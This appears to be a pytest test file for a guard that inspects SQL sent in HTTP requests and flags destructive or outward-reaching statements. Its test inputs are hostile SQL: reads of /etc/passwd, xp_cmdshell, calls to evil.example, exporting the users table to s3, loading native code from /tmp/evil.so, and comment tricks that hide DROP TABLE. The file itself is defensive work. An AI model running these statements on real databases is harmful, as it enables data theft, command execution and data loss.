@pytest.mark.parametrize(("text", "flag"), [
    ("SELECT pg_read_file('/etc/passwd')", "reaches_outside"),
    ("SELECT lo_import('/etc/passwd')", "reaches_outside"),
    ("EXEC master..xp_cmdshell 'whoami'", "reaches_outside"),
    ("EXEC [master].[dbo].[xp_cmdshell] 'whoami'", "reaches_outside"),
    ("SELECT * FROM url('https://evil.example/x', CSV)", "reaches_outside"),
    ("INSERT INTO FUNCTION s3('https://b/x.csv') SELECT * FROM users", "reaches_outside"),
    ("SELECT utl_http.request('https://evil.example') FROM dual", "reaches_outside"),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "server_admin"),
    ("SYSTEM SHUTDOWN", "server_admin"),
    ("EXEC sp_configure 'xp_cmdshell', 1", "server_admin"),
])
def test_calls_that_reach_outside_are_flagged(text: str, flag: str) -> None:
    assert flag in sql_json({"query": text}).flags


def test_a_function_that_runs_sql_text_has_that_text_read() -> None:
    action = sql_json({"query": "SELECT dblink_exec('dbname=prod', 'DROP TABLE users')"})
    assert "execute_dynamic" in action.statements and "users" in action.tables


@pytest.mark.parametrize("text", [
    "SELECT url, title FROM pages WHERE id = 1",
    "SELECT remote_addr FROM access_log WHERE id = 1",
    "SYSTEM FLUSH LOGS",
])
def test_lookalike_names_are_not_flagged(text: str) -> None:
    action = sql_json({"query": text})
    assert not action.flags & {"reaches_outside", "server_admin"}


def test_rename_table_is_read_in_any_field() -> None:
    action = sql_json({"note": "RENAME TABLE users TO users_old"})
    assert action.statements == ("rename",)


def test_prose_rename_is_not_sql() -> None:
    assert sql_json({"note": "rename the table later"}).service != "sql"


@pytest.mark.parametrize(("text", "flag"), [
    ("SET session_replication_role = replica", "server_admin"),
    ("SET FOREIGN_KEY_CHECKS = 0", "server_admin"),
    ("SET GLOBAL read_only = 0", "server_admin"),
])
def test_settings_that_switch_off_safeguards_are_flagged(text: str, flag: str) -> None:
    assert flag in sql_json({"query": text}).flags


def test_ordinary_settings_are_not_flagged() -> None:
    assert "server_admin" not in sql_json({"query": "SET FOREIGN_KEY_CHECKS = 1"}).flags


@pytest.mark.parametrize("text", ["CREATE ROLE x WITH LOGIN SUPERUSER", "CREATE USER bob", "CREATE OR REPLACE USER bob"])
def test_a_new_role_or_login_is_its_own_kind(text: str) -> None:
    assert sql_json({"query": text}).statements == ("create_role",)


def test_json_carried_in_a_string_is_read() -> None:
    action = sql_json({"payload": json.dumps({"job": {"sql": "DROP TABLE users"}})})
    assert (action.service, action.tables) == ("sql", ("users",))


def test_a_string_that_only_looks_like_json_is_harmless() -> None:
    assert sql_json({"note": "{not json; DROP is a word}"}).service != "sql"


@pytest.mark.parametrize("text, flag", [
    ("UPDATE users SET balance = 0 FROM users u2 WHERE users.id = u2.id", "update_without_where"),
    ("DELETE FROM users USING users u2 WHERE users.id = u2.id", "delete_without_where"),
    ("DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans)", "delete_without_where"),
    ("DELETE FROM users WHERE (SELECT count(*) FROM users) > 0", "delete_without_where"),
])
def test_a_where_that_never_looks_at_the_row_is_no_where(text: str, flag: str) -> None:
    assert flag in sql_body(text).flags


@pytest.mark.parametrize("text", [
    "DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans b WHERE b.user_id = users.id)",
    "DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans WHERE user_id = id)",  # unqualified: maybe the row's
    "DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans b WHERE b.uid = $1)",
    "UPDATE users SET name = n.name FROM users_new n WHERE users.id = n.id",
    "DELETE FROM sessions s USING users u WHERE s.user_id = u.id AND u.deleted",
    "DELETE FROM t WHERE x = (SELECT max(x) FROM t)",
])
def test_correlated_subqueries_and_joins_with_other_tables_filter_rows(text: str) -> None:
    assert not {"delete_without_where", "update_without_where"} & sql_body(text).flags


@pytest.mark.parametrize("text", [
    "SELECT 1\nDROP TABLE t",  # T-SQL: no semicolon needed between statements
    "UPDATE a SET b = 1 WHERE id = 2\n  TRUNCATE TABLE t",
    "SELECT 1\r\nGO\r\nDROP TABLE t",  # GO on a Windows line
    "SELECT 1\nGO -- next batch\nDROP TABLE t",
    "SELECT 1 /* /* */ ; DROP TABLE t; /* */ */",  # MySQL ends the comment at the first */
])
def test_statements_a_server_separates_without_semicolons_are_read(text: str) -> None:
    action = parse(request_view("POST", URL, [("Content-Type", "application/json")], json.dumps({"query": text})))
    assert action is not None and {"drop", "truncate"} & set(action.statements)


@pytest.mark.parametrize("text", ["select the drop table option", "SELECT a\n-- DROP TABLE t\nFROM x"])
def test_prose_and_comments_are_not_split_into_statements(text: str) -> None:
    action = parse(request_view("POST", URL, [("Content-Type", "application/json")], json.dumps({"query": text})))
    assert action is None or not {"drop", "unparsed"} & set(action.statements) | set(action.flags)


def test_mysql_double_dash_needs_a_blank_to_be_a_comment() -> None:
    from shield_addon.actions import sql_find
    assert " DROP TABLE t" in sql_find.fragments("SELECT 1 --1; DROP TABLE t")


@pytest.mark.parametrize("text, expected", [
    ("DELETE FROM users WHERE id IN (SELECT id FROM users LIMIT 1000)", True),  # a TRUNCATE as a loop
    ("DELETE FROM users WHERE users.id IN (SELECT id FROM users)", True),
    ("DELETE FROM users WHERE id IN (SELECT id FROM users WHERE created_at < '2020-01-01' LIMIT 1000)", False),
    ("DELETE FROM users WHERE id IN (SELECT user_id FROM bans)", False),
])
def test_rows_picked_from_the_table_itself_by_no_criterion_are_no_where(text: str, expected: bool) -> None:
    assert ("delete_without_where" in sql_body(text).flags) is expected


@pytest.mark.parametrize("text, expected", [
    ("DETACH TABLE events PERMANENTLY", "detach_table"),
    ("DETACH DICTIONARY d", "detach_table"),
    ("DETACH DATABASE aux", "detach"),  # SQLite: closes an attached file
])
def test_detaching_a_table_hides_it_from_every_reader(text: str, expected: str) -> None:
    assert expected in sql_body(text).statements


@pytest.mark.parametrize("text", [
    "EXEC sp_rename 'dbo.users', 'users_old'",
    "EXEC sp_addrolemember 'db_owner', 'agent'",
    "EXEC sp_detach_db 'prod'",
    "CALL mysql.rds_kill(1234)",
])
def test_system_procedures_that_rename_drop_or_grant_are_server_admin(text: str) -> None:
    assert "server_admin" in sql_body(text).flags


def test_sp_msforeachtable_runs_its_string_as_sql() -> None:
    action = sql_body("EXEC sp_MSforeachtable 'DROP TABLE ?'")
    assert ("execute_dynamic" in action.statements, "drop" in action.statements) == (True, True)


@pytest.mark.parametrize("text, expected", [
    ("MERGE INTO users t USING (SELECT 1 AS x) s ON 1 = 1 WHEN MATCHED THEN UPDATE SET balance = 0", True),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = s.x", False),
    ("MERGE INTO t USING s ON FALSE WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)", False),
])
def test_a_merge_on_a_tautology_updates_every_row(text: str, expected: bool) -> None:
    assert ("update_without_where" in sql_body(text).flags) is expected


def test_sql_in_multipart_parts_is_read_as_each_part_is() -> None:
    form = '--b\r\nContent-Disposition: form-data; filename="a.txt"; name="sql"\r\n\r\nDROP TABLE users\r\n--b--'
    related = '--b\r\nContent-Type: application/json\r\n\r\n{"configuration": {"query": {"query": "TRUNCATE ds.t"}}}\r\n--b--'
    upload = '--b\r\nContent-Disposition: form-data; name="file"; filename="r.csv"\r\n\r\na,b\n1,2\r\n--b--'
    assert "drop" in sql_body(form, "multipart/form-data; boundary=b").statements
    assert "truncate" in sql_body(related, "multipart/related; boundary=b").statements
    assert sql_body(upload, "multipart/form-data; boundary=b") is None or "sql" != parse(
        request_view("POST", URL, [("Content-Type", "multipart/form-data; boundary=b")], upload)).service


def test_sql_in_json_lines_is_read_line_by_line() -> None:
    body = '{"query": "SELECT 1"}\n{"query": "DROP TABLE users"}\n'
    assert "drop" in sql_body(body, "application/x-ndjson").statements


@pytest.mark.parametrize("text, inner", [
    ("SELECT cron.schedule('0 * * * *', 'DELETE FROM users')", "delete"),
    ("SELECT cron.schedule_in_database('wipe', '* * * * *', 'DROP TABLE users', 'prod')", "drop"),
    ("SELECT dbms_job.submit(j, 'BEGIN DELETE FROM users; END;')", "delete"),
])
def test_scheduled_sql_is_dynamic_and_read(text: str, inner: str) -> None:
    action = sql_body(text)
    assert ("execute_dynamic" in action.statements, inner in action.statements) == (True, True)


def test_a_snowflake_task_is_code_that_runs_later() -> None:
    assert "create_trigger" in sql_body("CREATE TASK wipe SCHEDULE = '1 minute' AS CALL purge()").statements


@pytest.mark.parametrize("text, expected", [
    ("CREATE FUNCTION sh(c text) RETURNS text LANGUAGE plpython3u AS $$ import os $$", True),
    ("CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int AS '/tmp/evil.so', 'sys_exec' LANGUAGE C STRICT", True),
    ("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'", True),
    ("CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM 1; END $$", False),
    ("CREATE FUNCTION f(x int) RETURNS int LANGUAGE sql AS 'SELECT x'", False),
])
def test_native_and_untrusted_functions_reach_outside(text: str, expected: bool) -> None:
    assert ("reaches_outside" in sql_body(text).flags) is expected
